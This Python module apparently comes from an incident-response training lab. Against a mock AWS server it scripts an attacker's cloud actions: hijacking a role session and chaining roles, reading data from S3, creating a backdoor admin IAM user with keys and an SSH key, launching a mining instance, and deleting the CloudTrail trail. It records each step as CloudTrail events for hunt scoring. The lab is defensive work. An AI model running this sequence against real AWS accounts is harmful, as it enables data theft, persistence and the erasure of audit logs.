"""The attacker's AWS calls, made for real against moto, and the CloudTrail records that describe them.

Why for real: recovery must later delete the backdoor user, its key and the launched instance, and the hunt
must find exactly these calls; so the ids in the records (user id, access key id, instance id) are the ones
moto returned, and the resources exist until someone removes them. Every call also lands in the ground truth.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Any

from eksir.errors import LabError
from eksir.lab.aws_seed import DATA_OBJECT_KEY, AwsInventory, RoleRef
from eksir.lab.cloudtrail_gen import Principal, api_call
from eksir.lab.moto_server import EKS_NODE_AMI, AwsEndpoint
from eksir.lab.scenarios import (
    ATTACKER_BOTO_UA,
    ATTACKER_IP,
    AwsActor,
    AwsCredentials,
    K8sIdentity,
    K8sUser,
    Scenario,
    eks_authenticator_user,
    iam_user_principal,
    session_principal,
)

ADMIN_POLICY = "arn:aws:iam::aws:policy/AdministratorAccess"
MINER_TYPE = "c5.4xlarge"


def console_date(moment: datetime) -> str:
    """The date format IAM uses inside CloudTrail responseElements (`Nov 23, 2026, 9:32:44 AM`)."""
    return moment.strftime("%b %-d, %Y, %-I:%M:%S %p")


@dataclass
class AttackLog:
    """What the attacker did: their CloudTrail records, their principals and the resources they touched."""

    records: list[dict[str, Any]] = field(default_factory=list)
    benign_records: list[dict[str, Any]] = field(default_factory=list)
    principals: list[dict[str, Any]] = field(default_factory=list)
    created: list[dict[str, Any]] = field(default_factory=list)
    changed: list[dict[str, Any]] = field(default_factory=list)
    deleted: list[dict[str, Any]] = field(default_factory=list)
    accessed: list[dict[str, Any]] = field(default_factory=list)

    def add_principal(self, principal: Principal, **facts: Any) -> None:
        """Remember a principal the attacker used (once), in the form the hunt is scored against."""
        entry = {
            "type": principal.kind,
            "arn": principal.arn,
            "access_key_id": principal.access_key_id,
            "principal_id": principal.principal_id,
            **facts,
        }
        if entry not in self.principals:
            self.principals.append(entry)


class AwsAttacker:
    """Makes AWS calls with one set of attacker credentials and records each as CloudTrail would."""

    def __init__(
        self,
        endpoint: AwsEndpoint,
        inv: AwsInventory,
        creds: AwsCredentials,
        log: AttackLog,
        rng: random.Random,
    ) -> None:
        self.endpoint, self.inv, self.creds, self.log, self.rng = endpoint, inv, creds, log, rng

    def client(self, service: str) -> Any:
        """A client of the lab endpoint (the one factory, `clients.aws`) with the attacker's credentials."""
        return self.endpoint.client(
            service,
            access_key_id=self.creds.access_key_id,
            secret_access_key=self.creds.secret_access_key,
            session_token=self.creds.session_token,
        )

    def record(self, source: str, name: str, **kwargs: Any) -> dict[str, Any]:
        """Append the CloudTrail record of a call the attacker just made (eventTime = now)."""
        record = api_call(
            self.creds.principal,
            datetime.now(UTC),
            source,
            name,
            region=self.inv.region,
            rng=self.rng,
            **kwargs,
        )
        self.log.records.append(record)
        return record

    def recon(self) -> None:
        """Who am I, which clusters exist: what an attacker does before `aws eks update-kubeconfig`."""
        self.client("sts").get_caller_identity()
        self.record("sts.amazonaws.com", "GetCallerIdentity", read_only=True)
        self.client("eks").list_clusters()
        self.record("eks.amazonaws.com", "ListClusters", read_only=True, request={"maxResults": 100})
        self.client("eks").describe_cluster(name=self.inv.cluster_name)
        self.record(
            "eks.amazonaws.com", "DescribeCluster", read_only=True, request={"name": self.inv.cluster_name}
        )

    def assume_role(self, role: RoleRef, session_name: str) -> AwsCredentials:
        """sts:AssumeRole with the current credentials; returns the new session's credentials."""
        out = self.client("sts").assume_role(RoleArn=role.arn, RoleSessionName=session_name)
        cred, assumed = out["Credentials"], out["AssumedRoleUser"]
        self.record(
            "sts.amazonaws.com",
            "AssumeRole",
            read_only=True,
            request={"roleArn": role.arn, "roleSessionName": session_name},
            response={
                "credentials": {
                    "accessKeyId": cred["AccessKeyId"],
                    "sessionToken": "<redacted>",
                    "expiration": console_date(cred["Expiration"]),
                },
                "assumedRoleUser": {"assumedRoleId": assumed["AssumedRoleId"], "arn": assumed["Arn"]},
            },
            resources=[{"accountId": self.inv.account_id, "type": "AWS::IAM::Role", "ARN": role.arn}],
        )
        principal = Principal(
            kind="AssumedRole",
            account_id=self.inv.account_id,
            source_ip=self.creds.principal.source_ip,
            user_agent=self.creds.principal.user_agent,
            arn=assumed["Arn"],
            principal_id=assumed["AssumedRoleId"],
            access_key_id=cred["AccessKeyId"],
            issuer_arn=role.arn,
            issuer_principal_id=role.role_id,
            session_created=datetime.now(UTC),
        )
        self.log.add_principal(principal, role_arn=role.arn, session_name=session_name)
        return AwsCredentials(cred["AccessKeyId"], cred["SecretAccessKey"], cred["SessionToken"], principal)

    def persist(self, subnet_id: str) -> None:
        """Discovery, theft, a backdoor admin user with a key, a miner with the node profile, no trail."""
        self.client("sts").get_caller_identity()
        self.record("sts.amazonaws.com", "GetCallerIdentity", read_only=True)
        self.client("s3").list_buckets()
        self.record("s3.amazonaws.com", "ListBuckets", read_only=True, request={"Host": "s3.amazonaws.com"})
        self._steal_data()
        self._backdoor_user()
        self._run_miner(subnet_id)
        self._delete_trail()

    def _steal_data(self) -> None:
        bucket = self.inv.data_bucket
        self.client("s3").get_object(Bucket=bucket, Key=DATA_OBJECT_KEY)["Body"].read()
        self.record(
            "s3.amazonaws.com",
            "GetObject",
            read_only=True,
            data_event=True,
            request={"bucketName": bucket, "Host": f"{bucket}.s3.amazonaws.com", "key": DATA_OBJECT_KEY},
            resources=[
                {"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::{bucket}/{DATA_OBJECT_KEY}"},
                {
                    "accountId": self.inv.account_id,
                    "type": "AWS::S3::Bucket",
                    "ARN": f"arn:aws:s3:::{bucket}",
                },
            ],
        )
        self.log.accessed.append(
            {"type": "AWS::S3::Object", "id": f"arn:aws:s3:::{bucket}/{DATA_OBJECT_KEY}"}
        )

    def _backdoor_user(self) -> None:
        iam = self.client("iam")
        name = f"svc-backup-{self.rng.randrange(16**6):06x}"
        user = iam.create_user(UserName=name)["User"]
        self.record(
            "iam.amazonaws.com",
            "CreateUser",
            request={"userName": name},
            response={
                "user": {
                    "path": "/",
                    "userName": name,
                    "userId": user["UserId"],
                    "arn": user["Arn"],
                    "createDate": console_date(user["CreateDate"]),
                }
            },
        )
        key = iam.create_access_key(UserName=name)["AccessKey"]
        self.record(
            "iam.amazonaws.com",
            "CreateAccessKey",
            request={"userName": name},
            response={
                "accessKey": {
                    "userName": name,
                    "accessKeyId": key["AccessKeyId"],
                    "status": "Active",
                    "createDate": console_date(key["CreateDate"]),
                }
            },
        )
        iam.attach_user_policy(UserName=name, PolicyArn=ADMIN_POLICY)
        self.record(
            "iam.amazonaws.com", "AttachUserPolicy", request={"userName": name, "policyArn": ADMIN_POLICY}
        )
        _more_credentials(iam, name)
        self.log.created += [
            {"type": "AWS::IAM::User", "id": name, "arn": user["Arn"]},
            {"type": "AWS::IAM::AccessKey", "id": key["AccessKeyId"], "user": name},
        ]
        self.log.changed.append(
            {"type": "AWS::IAM::User", "id": name, "change": f"AttachUserPolicy {ADMIN_POLICY}"}
        )

    def _run_miner(self, subnet_id: str) -> None:
        profile = self.inv.instance_profile_arn
        out = self.client("ec2").run_instances(
            ImageId=EKS_NODE_AMI,
            MinCount=1,
            MaxCount=1,
            InstanceType=MINER_TYPE,
            SubnetId=subnet_id,
            IamInstanceProfile={"Arn": profile},
        )
        instance = out["Instances"][0]
        self.record(
            "ec2.amazonaws.com",
            "RunInstances",
            request={
                "instancesSet": {"items": [{"imageId": EKS_NODE_AMI, "minCount": 1, "maxCount": 1}]},
                "instanceType": MINER_TYPE,
                "subnetId": subnet_id,
                "iamInstanceProfile": {"arn": profile},
                "disableApiTermination": False,
            },
            response={
                "requestId": out["ResponseMetadata"]["RequestId"],
                "reservationId": out["ReservationId"],
                "ownerId": self.inv.account_id,
                "instancesSet": {
                    "items": [
                        {
                            "instanceId": instance["InstanceId"],
                            "imageId": EKS_NODE_AMI,
                            "instanceType": MINER_TYPE,
                            "privateIpAddress": instance["PrivateIpAddress"],
                            "iamInstanceProfile": {"arn": profile},
                        }
                    ]
                },
            },
        )
        self.log.created.append({"type": "AWS::EC2::Instance", "id": instance["InstanceId"]})

    def _delete_trail(self) -> None:
        name = self.inv.trail_arn.rsplit("/", 1)[-1]  # moto resolves trails by name only
        self.client("cloudtrail").delete_trail(Name=name)
        self.record("cloudtrail.amazonaws.com", "DeleteTrail", request={"name": name})
        self.log.deleted.append({"type": "AWS::CloudTrail::Trail", "id": self.inv.trail_arn})


@dataclass
class Foothold:
    """The attacker's starting point: how they appear to Kubernetes and which AWS keys they hold already."""

    k8s_user: K8sUser | None  # None: a service-account token authenticates instead
    creds: AwsCredentials | None
    access_key_details: dict[str, str] | None


def _mapped_role_foothold(endpoint: AwsEndpoint, inv: AwsInventory, log: AttackLog) -> Foothold:
    """alice assumed ops-admin legitimately; the attacker stole that session from her laptop."""
    role, session = inv.roles["ops-admin"], "alice@example.com"
    alice = inv.users["alice"]
    out = endpoint.client(
        "sts", access_key_id=alice.access_key_id, secret_access_key=alice.secret_access_key
    ).assume_role(RoleArn=role.arn, RoleSessionName=session)
    cred = out["Credentials"]
    principal = session_principal(role, session, cred["AccessKeyId"], inv.account_id)
    log.add_principal(principal, role_arn=role.arn, session_name=session)
    user = eks_authenticator_user("ops-admin:alice-example.com", ("system:masters",), principal, session)
    details = {
        "accessKeyId": cred["AccessKeyId"],
        "principalId": principal.principal_id,
        "userName": role.name,
        "userType": "Role",
    }
    creds = AwsCredentials(cred["AccessKeyId"], cred["SecretAccessKey"], cred["SessionToken"], principal)
    return Foothold(user, creds, details)


def begin(endpoint: AwsEndpoint, inv: AwsInventory, scenario: Scenario, log: AttackLog) -> Foothold:
    """Set up the attacker's starting credentials for `scenario` (real keys/sessions in moto)."""
    if scenario.k8s_identity is K8sIdentity.MAPPED_ROLE:
        return _mapped_role_foothold(endpoint, inv, log)
    if scenario.k8s_identity is K8sIdentity.OIDC:
        return Foothold(
            K8sUser("oidc:alice@example.com", ("oidc:platform-admins", "system:authenticated")), None, None
        )
    if scenario.k8s_identity is K8sIdentity.SERVICE_ACCOUNT:
        return Foothold(None, None, None)
    builtin = scenario.k8s_identity is K8sIdentity.BUILTIN_ADMIN
    key = inv.users["eks-admin" if builtin else "bob"]
    principal = iam_user_principal(key, inv.account_id)
    log.add_principal(principal, user_name=key.user_name)
    username, groups = ("kubernetes-admin", ("system:masters",)) if builtin else ("bob", ("platform-admins",))
    details = {
        "accessKeyId": key.access_key_id,
        "principalId": key.user_id,
        "userName": key.user_name,
        "userType": "IAMUser",
    }
    creds = AwsCredentials(key.access_key_id, key.secret_access_key, None, principal)
    return Foothold(eks_authenticator_user(username, groups, principal, ""), creds, details)


def _node_role_creds(
    endpoint: AwsEndpoint, inv: AwsInventory, instance_id: str, log: AttackLog
) -> AwsCredentials:
    """The instance credentials IMDS hands the node: a node-role session named after the instance."""
    cred = endpoint.client("sts").assume_role(RoleArn=inv.node_role.arn, RoleSessionName=instance_id)[
        "Credentials"
    ]
    principal = session_principal(
        inv.node_role, instance_id, cred["AccessKeyId"], inv.account_id, ec2_role_delivery=True
    )
    log.add_principal(principal, role_arn=inv.node_role.arn, session_name=instance_id)
    return AwsCredentials(cred["AccessKeyId"], cred["SecretAccessKey"], cred["SessionToken"], principal)


def _irsa_creds(
    endpoint: AwsEndpoint,
    inv: AwsInventory,
    scenario: Scenario,
    token: str,
    *,
    log: AttackLog,
    rng: random.Random,
) -> AwsCredentials:
    """sts:AssumeRoleWithWebIdentity with the service account's token, logged as a WebIdentityUser call."""
    role = inv.roles["payments-api-irsa"]
    session = f"botocore-session-{int(datetime.now(UTC).timestamp())}"
    out = endpoint.client("sts").assume_role_with_web_identity(
        RoleArn=role.arn, RoleSessionName=session, WebIdentityToken=token
    )
    cred = out["Credentials"]
    subject = f"system:serviceaccount:{scenario.namespace}:{scenario.service_account}"
    provider = inv.oidc_provider_arn
    caller = Principal(
        kind="WebIdentityUser",
        account_id=inv.account_id,
        source_ip=ATTACKER_IP,
        user_agent=ATTACKER_BOTO_UA,
        principal_id=f"{provider}:sts.amazonaws.com:{subject}",
        user_name=subject,
        web_identity_provider=provider,
    )
    record = api_call(
        caller,
        datetime.now(UTC),
        "sts.amazonaws.com",
        "AssumeRoleWithWebIdentity",
        region=inv.region,
        rng=rng,
        read_only=True,
        request={"roleArn": role.arn, "roleSessionName": session},
        response={
            "credentials": {"accessKeyId": cred["AccessKeyId"], "sessionToken": "<redacted>"},
            "subjectFromWebIdentityToken": subject,
            "assumedRoleUser": {
                "arn": out["AssumedRoleUser"]["Arn"],
                "assumedRoleId": out["AssumedRoleUser"]["AssumedRoleId"],
            },
            "provider": provider,
            "audience": "sts.amazonaws.com",
        },
        resources=[{"accountId": inv.account_id, "type": "AWS::IAM::Role", "ARN": role.arn}],
    )
    record["recipientAccountId"] = inv.account_id
    log.records.append(record)
    principal = session_principal(
        role,
        session,
        cred["AccessKeyId"],
        inv.account_id,
        user_agent=ATTACKER_BOTO_UA,
        web_identity_provider=provider,
    )
    log.add_principal(principal, role_arn=role.arn, session_name=session, service_account=subject)
    return AwsCredentials(cred["AccessKeyId"], cred["SecretAccessKey"], cred["SessionToken"], principal)


def finish(
    endpoint: AwsEndpoint,
    inv: AwsInventory,
    scenario: Scenario,
    foothold: Foothold,
    *,
    node_instance_id: str,
    sa_token: str | None,
    log: AttackLog,
    rng: random.Random,
) -> None:
    """After the pod runs: obtain the scenario's AWS credentials and persist with them."""
    creds = foothold.creds
    if scenario.aws_actor is AwsActor.NODE_ROLE:
        creds = _node_role_creds(endpoint, inv, node_instance_id, log)
    elif scenario.aws_actor is AwsActor.IRSA_ROLE:
        creds = _irsa_creds(endpoint, inv, scenario, sa_token or "", log=log, rng=rng)
    elif scenario.aws_actor is AwsActor.CHAINED_ROLE and creds is not None:
        creds = AwsAttacker(endpoint, inv, creds, log, rng).assume_role(inv.roles["infra-deployer"], "bob")
    if creds is None:
        raise LabError(f"scenario {scenario.name} has no AWS credentials for its attacker")
    AwsAttacker(endpoint, inv, creds, log, rng).persist(inv.subnet_ids[0])


# A public certificate (Amazon Root CA 3) and a throwaway SSH key: what an attacker uploads to keep a way in.
BACKDOOR_CERTIFICATE = """-----BEGIN CERTIFICATE-----
MIIBtjCCAVugAwIBAgITBmyf1XSXNmY/Owua2eiedgPySjAKBggqhkjOPQQDAjA5
MQswCQYDVQQGEwJVUzEPMA0GA1UEChMGQW1hem9uMRkwFwYDVQQDExBBbWF6b24g
Um9vdCBDQSAzMB4XDTE1MDUyNjAwMDAwMFoXDTQwMDUyNjAwMDAwMFowOTELMAkG
A1UEBhMCVVMxDzANBgNVBAoTBkFtYXpvbjEZMBcGA1UEAxMQQW1hem9uIFJvb3Qg
Q0EgMzBZMBMGByqGSM49AgEGCCqGSM49AwEHA0IABCmXp8ZBf8ANm+gBG1bG8lKl
ui2yEujSLtf6ycXYqm0fc4E7O5hrOXwzpcVOho6AF2hiRVd9RFgdszflZwjrZt6j
QjBAMA8GA1UdEwEB/wQFMAMBAf8wDgYDVR0PAQH/BAQDAgGGMB0GA1UdDgQWBBSr
ttvXBp43rDCGB5Fwx5zEGbF4wDAKBggqhkjOPQQDAgNJADBGAiEA4IWSoxe3jfkr
BqWTrBqYaGFy+uGh0PsceGCmQ5nFuMQCIQCcAu/xlJyzlvnrxir4tiz+OpAUFteM
YyRIHN8wfdVoOw==
-----END CERTIFICATE-----
"""
BACKDOOR_SSH_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGxhYmJhY2tkb29ya2V5Zm9yZWtzaXJsYWJvbmx5MDAw backdoor"


def _more_credentials(iam: Any, name: str) -> None:
    """A signing certificate, an SSH public key and a virtual MFA device on the backdoor user.

    Why: IAM refuses DeleteUser while any of them is left, so recovery's user deletion must remove them
    first (issue 16). They are made for real in moto but not written to the lab's trail: the hunt's
    inventory of these event names is not what the lab exercises here, and the deletion finds them by
    listing the user, never from the log.
    """
    iam.upload_signing_certificate(UserName=name, CertificateBody=BACKDOOR_CERTIFICATE)
    iam.upload_ssh_public_key(UserName=name, SSHPublicKeyBody=BACKDOOR_SSH_KEY)
    serial = iam.create_virtual_mfa_device(VirtualMFADeviceName=f"{name}-mfa")["VirtualMFADevice"][
        "SerialNumber"
    ]
    iam.enable_mfa_device(
        UserName=name, SerialNumber=serial, AuthenticationCode1="123456", AuthenticationCode2="654321"
    )
